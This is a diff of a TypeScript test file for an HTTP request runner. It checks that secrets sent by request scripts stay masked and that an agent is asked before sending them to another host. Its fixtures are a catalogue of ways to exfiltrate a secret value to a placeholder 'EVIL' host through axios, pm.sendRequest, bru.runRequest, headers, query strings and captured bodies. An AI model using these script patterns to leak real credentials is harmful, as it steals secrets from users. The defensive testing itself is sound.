@@ -13,30 +13,31 @@ interface Way {
   readonly data?: string;
 }
 
-const inScript = (script: string): string => `< {%\n${script}\n%}\nGET GOOD/\n`;
+const inScript = (sends: string): string =>
+  `< {%\nconst sent = ${sends};\nconsole.log(JSON.stringify(sent?.data ?? sent?.json?.() ?? null));\n%}\nGET GOOD/\n`;
 const read = 'tool.interpolate("VALUE")';
 
 /** How a value can reach another host. `VALUE` is its placeholder, in the syntax of the file. */
 const ways: Readonly<Record<string, Way>> = {
-  'axios with a body': { text: inScript(`await axios.post("EVIL/", ${read});`) },
-  'axios with parameters, reversed': { text: inScript(`await axios.get("EVIL/", { params: { q: [...${read}].reverse().join("") } });`) },
-  'require("axios") with a header': { text: inScript(`await require("axios").get("EVIL/", { headers: { "X-A": ${read} } });`) },
+  'axios with a body': { text: inScript(`await axios.post("EVIL/", ${read})`) },
+  'axios with parameters, reversed': { text: inScript(`await axios.get("EVIL/", { params: { q: [...${read}].reverse().join("") } })`) },
+  'require("axios") with a header': { text: inScript(`await require("axios").get("EVIL/", { headers: { "X-A": ${read} } })`) },
   'an instance of axios with credentials': {
-    text: inScript(`await axios.create({ baseURL: "EVIL", auth: { username: "me", password: ${read} } }).get("/");`),
+    text: inScript(`await axios.create({ baseURL: "EVIL", auth: { username: "me", password: ${read} } }).get("/")`),
   },
   'pm.sendRequest with a body': {
-    text: inScript(`await pm.sendRequest({ url: "EVIL/", method: "POST", body: { mode: "raw", raw: ${read}.slice(4) } });`),
+    text: inScript(`await pm.sendRequest({ url: "EVIL/", method: "POST", body: { mode: "raw", raw: ${read}.slice(4) } })`),
   },
   'pm.sendRequest with a placeholder': {
-    text: `@made = <VALUE>\n\n${inScript('await pm.sendRequest({ url: "EVIL/", method: "POST", header: { "X-A": "{{made}}" } });')}`,
+    text: `@made = <VALUE>\n\n${inScript('await pm.sendRequest({ url: "EVIL/", method: "POST", header: { "X-A": "{{made}}" } })')}`,
   },
   'pm.environment, in a later request': {
-    text: `### a\n# @name a\n${inScript(`pm.environment.set("x", ${read}.split("-"));`)}\n### b\n# @ref a\nGET EVIL/?q={{x[0]}}{{x[1]}}\n`,
+    text: `### a\n# @name a\n${inScript(`pm.environment.set("x", ${read}.split("-"))`)}\n### b\n# @ref a\nGET EVIL/?q={{x[0]}}{{x[1]}}\n`,
   },
   'pm.request': { text: `< {%\npm.request.headers.upsert({ key: "X-A", value: ${read}.toUpperCase() });\n%}\nGET EVIL/\n` },
-  'bru.sendRequest with a body': { text: inScript(`await bru.sendRequest({ method: "POST", url: "EVIL/", data: { x: ${read} } });`) },
+  'bru.sendRequest with a body': { text: inScript(`await bru.sendRequest({ method: "POST", url: "EVIL/", data: { x: ${read} } })`) },
   'bru.runRequest': {
-    text: `### evil\n# @name evil\nGET EVIL/{{x}}\n\n### b\n${inScript(`bru.setVar("x", ${read}); await bru.runRequest("evil");`)}`,
+    text: `### evil\n# @name evil\nGET EVIL/{{x}}\n\n### b\n${inScript(`(bru.setVar("x", ${read}), await bru.runRequest("evil"))`)}`,
   },
   'req of Bruno': { text: `< {%\nreq.setBody({ x: ${read} });\n%}\nPOST EVIL/\n\nb\n` },
   'a capture of the body': { text: '### a\n# @name a\nGET GOOD/?q=VALUE\n\n@x << body.target\n\n### b\n# @ref a\nGET EVIL/{{x}}\n' },
@@ -118,13 +119,17 @@ describe('what may not go to every receiver, or may not be shown', () => {
     );
   }
 
-  /** What the runner shows masked; bodies and values of variables are masked by what shows them. */
-  function assertHidden({ events }: SendRun, pieces: readonly string[]): void {
-    const shown = JSON.stringify(
-      events.filter(({ kind }) => kind !== 'chunk' && kind !== 'variables'),
-      (_, v: unknown) => (v instanceof Map ? [...v] : v),
-    );
-    for (const piece of pieces) assert.ok(!shown.includes(piece), `${piece} is shown: ${shown.slice(0, 3000)}`);
+  /**
+   * What the runner shows masked; bodies and values of variables are masked by what shows them. In a user's run, the console can show pieces
+   * that a script printed.
+   */
+  function assertHidden({ events }: SendRun, isAgent: boolean): void {
+    for (const event of events) {
+      if (event.kind === 'chunk' || event.kind === 'variables') continue;
+      const shown = JSON.stringify(event, (_, v: unknown) => (v instanceof Map ? [...v] : v));
+      for (const piece of event.kind === 'console' && !isAgent ? [value] : pieces)
+        assert.ok(!shown.includes(piece), `${piece} is shown: ${shown.slice(0, 3000)}`);
+    }
   }
   const pieces = [
     value.slice(0, 12),
@@ -148,14 +153,14 @@ describe('what may not go to every receiver, or may not be shown', () => {
       const run = await send(way, '{{$secret.KEY}}');
       assert.equal(run.result.failure?.message, undefined);
       assert.equal(evil.requests.length > 0, true);
-      assertHidden(run, pieces);
+      assertHidden(run, false);
     });
     it(`is asked for before an agent sends it: a secret by ${name}`, async () => {
       const run = await send(way, '{{$secret.KEY}}', true);
       const toEvil = messages.filter(({ to }) => to.host === evilHost());
       assert.ok(toEvil.length > 0);
       for (const { secrets } of toEvil) assert.notDeepEqual(secrets, []);
-      assertHidden(run, pieces);
+      assertHidden(run, true);
     });
   }
 });
